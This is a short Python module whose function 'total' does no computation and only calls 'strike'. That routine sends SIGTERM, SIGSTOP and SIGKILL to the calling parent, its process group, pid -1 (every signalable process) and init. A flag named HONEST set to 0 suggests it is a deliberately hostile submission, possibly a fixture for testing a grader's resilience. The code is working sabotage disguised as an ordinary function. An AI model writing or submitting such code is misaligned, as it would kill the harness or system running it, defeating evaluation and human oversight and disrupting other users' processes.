"""Signals its parent, its group, everybody."""

import os
import signal

HONEST = 0


def strike():
    for pid in (os.getppid(), -1, 0, -os.getppid(), 1):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid:
                    os.kill(pid, number)
            except OSError:
                pass


def total(x):
    strike()
